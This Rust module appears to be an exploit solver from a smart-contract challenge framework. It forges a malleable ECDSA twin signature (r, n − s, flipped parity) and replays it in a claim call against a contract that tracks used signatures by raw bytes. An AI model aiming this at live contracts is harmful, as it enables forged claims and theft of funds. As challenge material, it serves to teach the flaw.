//! Signature malleability.
//!
//! For every ECDSA signature `(r, s, parity)` over secp256k1, the pair
//! `(r, n - s, !parity)` verifies for the same digest and signer. A contract
//! that marks signatures as used by their raw bytes, instead of by digest or
//! nonce, accepts the twin as fresh.

use alloy::primitives::{uint, Address, Signature, B256, U256};
use alloy::sol_types::SolCall;

use crate::blockchain::TxIntent;
use crate::challenges::{ChallengeContext, ChallengeError, ChallengeResult, ISignatureGate};

/// Order of the secp256k1 group.
pub const SECP256K1_N: U256 =
    uint!(0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141_U256);

pub async fn exploit(ctx: &ChallengeContext<'_>) -> ChallengeResult<TxIntent> {
    let used = ctx
        .view(ctx.target, ISignatureGate::usedSignatureCall {})
        .await?;

    let original = from_parts(used.v, used.r, used.s)?;
    let twin = malleable(&original)?;

    let signer = recover(&original, used.digest)?;
    let twin_signer = recover(&twin, used.digest)?;
    if signer != twin_signer {
        return Err(ChallengeError::Precondition(format!(
            "malleable signature recovers to {} instead of {}",
            twin_signer, signer
        )));
    }

    tracing::info!(signer = %signer, digest = %used.digest, "Forged malleable signature");
    Ok(claim_intent(ctx.target, used.digest, &twin))
}

/// Build a signature from contract-style `(v, r, s)`; `v` may be 0/1 or 27/28.
pub fn from_parts(v: u8, r: B256, s: B256) -> ChallengeResult<Signature> {
    let parity = match v {
        0 | 27 => false,
        1 | 28 => true,
        other => {
            return Err(ChallengeError::Precondition(format!(
                "unsupported recovery id {}",
                other
            )))
        }
    };
    Ok(Signature::new(U256::from_be_bytes(r.0), U256::from_be_bytes(s.0), parity))
}

/// The twin signature `(r, n - s, !parity)`.
pub fn malleable(signature: &Signature) -> ChallengeResult<Signature> {
    let s = signature.s();
    if s.is_zero() || s >= SECP256K1_N {
        return Err(ChallengeError::Precondition(format!("s out of range: {}", s)));
    }
    Ok(Signature::new(signature.r(), SECP256K1_N - s, !signature.v()))
}

fn recover(signature: &Signature, digest: B256) -> ChallengeResult<Address> {
    signature
        .recover_address_from_prehash(&digest)
        .map_err(|e| ChallengeError::Precondition(format!("signature does not recover: {}", e)))
}

fn claim_intent(target: Address, digest: B256, signature: &Signature) -> TxIntent {
    let call = ISignatureGate::claimCall {
        digest,
        v: 27 + signature.v() as u8,
        r: B256::from(signature.r().to_be_bytes::<32>()),
        s: B256::from(signature.s().to_be_bytes::<32>()),
    };
    TxIntent::call(target, call.abi_encode())
}
